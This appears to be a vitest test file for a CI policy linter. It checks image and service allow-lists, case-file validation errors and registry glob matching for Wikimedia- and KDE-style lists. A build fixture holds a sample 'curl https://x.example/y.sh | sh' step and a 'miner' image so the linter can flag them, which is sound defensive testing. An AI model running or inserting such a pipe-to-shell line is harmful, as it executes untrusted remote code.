import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { policyText } from '../support/snapshot-of.ts';
import { workspace } from './workspace.ts';

const POLICY = `rules: {image-not-allowed: {level: error, allow: [registry.example.org/**]}, service-not-allowed: warning}
groups:
  strict/**:
    rules: {service-not-allowed: {level: error, allow: ["postgres:*"]}}
`;

const BUILD = `build:
  image: evil/miner:1
  script: [make]
test:
  image: registry.example.org/a:1
  script: ["curl https://x.example/y.sh | sh"]
`;

describe('policy test', () => {
  it('says of each case whether it is as expected', async () => {
    const cases = `- {image: "registry.example.org/a:1", project: any/app, expect: allowed}
- {image: "evil:1", project: any/app, expect: refused}
- {service: "mysql:8", project: strict/app, expect: refused}
- {service: "mysql:8", project: any/app, expect: allowed}
- {file: ci/build.yml, project: any/app, expect: [image-not-allowed 2, script-from-network]}
`;
    const space = workspace({ 'policy.yml': POLICY, 'cases.yml': cases, 'ci/build.yml': BUILD });
    const { code, out } = await space.run(['policy', 'test', 'cases.yml', '--policy', 'policy.yml']);
    expect(out.split('\n').map((line) => line.slice(0, 4))).toEqual([
      'ok  ',
      'ok  ',
      'ok  ',
      'ok  ',
      'ok  ',
      '5 of',
      '',
    ]);
    expect(out).toContain('cases.yml:3 service mysql:8 in strict/app: refused');
    expect(code).toBe(0);
  });

  it('names what is not as expected, and fails', async () => {
    const cases = `- {image: "evil:1", project: any/app, expect: allowed}
- {file: ci/build.yml, project: any/app, expect: [image-not-allowed 3, docker-in-docker]}
`;
    const space = workspace({ 'policy.yml': POLICY, 'cases.yml': cases, 'ci/build.yml': BUILD });
    const { code, out } = await space.run(['policy', 'test', 'cases.yml', '--policy', 'policy.yml']);
    expect(code).toBe(1);
    expect(out).toContain(
      'FAIL cases.yml:1 image evil:1 in any/app: allowed\n     it is refused, and expected to be allowed\n',
    );
    for (const fault of [
      'it has no image-not-allowed 3',
      'it has no docker-in-docker',
      'not expected: image-not-allowed 2',
    ]) {
      expect(out).toContain(`     ${fault}`);
    }
    expect(out).toContain('0 of 2 cases as expected, by policy.yml');
  });

  it.each([
    ['a: 1', 'cases.yml:1:1 must be a list of cases'],
    ['- {picture: x}', 'cases.yml:1:3 a case needs `image`, `service` or `file`'],
    ['- {image: x, project: a/b, expect: maybe}', '`expect` must be `allowed`, `warned` or `refused`, not `maybe`'],
    ['- {image: x, expect: allowed}', '`project` is missing'],
    ['- {file: x.yml, project: a/b, expect: [no-such-rule]}', 'there is no rule `no-such-rule`'],
    ['- {file: x.yml, project: a/b, expect: ["Not A Rule"]}', 'must be a rule, or a rule and a line'],
    ['- {file: gone.yml, project: a/b, expect: []}', 'there is no file'],
  ])('%j is refused', async (cases, fault) => {
    const { code, err } = await workspace({ 'cases.yml': cases }).run(['policy', 'test', 'cases.yml']);
    expect({ code, err }).toEqual({ code: 2, err: expect.stringContaining(fault) });
  });
});

/** Lists of the kind that Wikimedia and KDE run. Verdicts: what a runner says by its patterns. */
const LISTS = {
  'wiki/**': [
    'docker-registry.wikimedia.org/*',
    'docker-registry.wikimedia.org/repos/**',
    'docker-registry.wikimedia.org/dev/*:1.*',
    'registry.gitlab.com/security-products/*',
  ],
  'kde/**': [
    'invent-registry.kde.org/sysadmin/ci-images/*',
    'invent-registry.kde.org/*/*:latest',
    'debian:*',
    '{alpine,python}:3.*',
    'node:[0-9][0-9]',
    'quay.io/flatpak/**',
  ],
};

const asGroups = policyText(
  { 'image-not-allowed': 'error' },
  stringify({
    groups: Object.fromEntries(
      Object.entries(LISTS).map(([glob, allow]) => [glob, { rules: { 'image-not-allowed': { allow } } }]),
    ),
  }),
);

/** The same lists where they come from: the runners of the two groups. */
const asRunners = policyText(
  { 'image-not-allowed': 'error' },
  stringify({
    runners: Object.entries(LISTS).map(([glob, allowed_images]) => ({
      name: glob,
      projects: [glob],
      untagged: true,
      executor: 'docker',
      allowed_images,
    })),
  }),
);

const VERDICTS: Readonly<Record<string, readonly [image: string, outcome: string][]>> = {
  'wiki/tools/app': [
    ['docker-registry.wikimedia.org/bookworm', 'allowed'],
    ['docker-registry.wikimedia.org/bookworm:20240101', 'allowed'],
    ['docker-registry.wikimedia.org/releng/tox', 'refused'],
    ['docker-registry.wikimedia.org/repos/releng/tox:1.0', 'allowed'],
    ['docker-registry.wikimedia.org/repos/a/b/c/d@sha256:0123', 'allowed'],
    ['docker-registry.wikimedia.org/repos', 'allowed'],
    ['docker-registry.wikimedia.org/dev/php:1.2', 'allowed'],
    ['docker-registry.wikimedia.org/dev/php:2.1', 'refused'],
    ['docker-registry.wikimedia.org/dev/php', 'refused'],
    ['docker-registry.wikimedia.org/dev/a/php:1.2', 'refused'],
    ['DOCKER-REGISTRY.wikimedia.org/bookworm', 'refused'],
    ['docker-registry.wikimedia.org.evil.example/bookworm', 'refused'],
    ['evil.example/docker-registry.wikimedia.org/bookworm', 'refused'],
    ['docker-registry.wikimedia.org:443/bookworm', 'refused'],
    ['https://docker-registry.wikimedia.org/bookworm', 'refused'],
    ['registry.gitlab.com/security-products/semgrep:5', 'allowed'],
    ['registry.gitlab.com/security-products/a/semgrep:5', 'refused'],
    ['registry.gitlab.com/gitlab-org/cli', 'refused'],
    ['debian:bookworm', 'refused'],
    ['alpine', 'refused'],
    ['python:3.12', 'refused'],
    ['quay.io/flatpak/x', 'refused'],
  ],
  'kde/frameworks/kio': [
    ['invent-registry.kde.org/sysadmin/ci-images/suse-qt6:latest', 'allowed'],
    ['invent-registry.kde.org/sysadmin/ci-images/suse-qt6', 'allowed'],
    ['invent-registry.kde.org/sysadmin/ci-images/a/suse-qt6', 'refused'],
    ['invent-registry.kde.org/websites/hugo:latest', 'allowed'],
    ['invent-registry.kde.org/websites/hugo:1', 'refused'],
    ['invent-registry.kde.org/websites/hugo', 'refused'],
    ['invent-registry.kde.org/hugo:latest', 'refused'],
    ['debian:12', 'allowed'],
    ['debian', 'refused'],
    ['docker.io/library/debian:12', 'refused'],
    ['debian:12/x', 'refused'],
    ['alpine:3.20', 'allowed'],
    ['alpine:edge', 'refused'],
    ['python:3.12-slim', 'allowed'],
    ['python:2.7', 'refused'],
    ['node:22', 'allowed'],
    ['node:8', 'refused'],
    ['node:22-alpine', 'refused'],
    ['quay.io/flatpak/a/b:c', 'allowed'],
    ['quay.io/flatpakx/a', 'refused'],
    ['docker-registry.wikimedia.org/bookworm', 'refused'],
    ['registry.gitlab.com/security-products/semgrep:5', 'refused'],
  ],
};

/** Images of the one list that the other one takes as well. */
const TAKEN_BY_BOTH = new Set(['debian:bookworm', 'python:3.12', 'quay.io/flatpak/x']);

/** Every image by either list. */
const cases = Object.entries(VERDICTS).flatMap(([project, own]) => {
  const known = new Set(own.map(([image]) => image));
  const others = Object.values(VERDICTS)
    .flat()
    .filter(([image]) => !known.has(image))
    .map(([image]) => [image, project.startsWith('kde') && TAKEN_BY_BOTH.has(image) ? 'allowed' : 'refused'] as const);
  return [...own, ...others].map(([image, outcome]) => ({ image, project, expect: outcome }));
});

it.each([
  ['two groups of one policy', asGroups],
  ['the runners of two groups', asRunners],
])('two lists give the same verdicts on forty images and more as %s', { timeout: 60_000 }, async (_name, policy) => {
  for (const project of Object.keys(VERDICTS)) {
    expect(cases.filter((each) => each.project === project).length).toBeGreaterThan(40);
  }
  const space = workspace({ 'policy.yml': policy, 'cases.yml': JSON.stringify(cases) });
  const { out } = await space.run(['policy', 'test', 'cases.yml', '--policy', 'policy.yml']);
  expect(out.split('\n').filter((line) => !line.startsWith('ok  '))).toEqual([
    `${cases.length} of ${cases.length} cases as expected, by policy.yml`,
    '',
  ]);
});
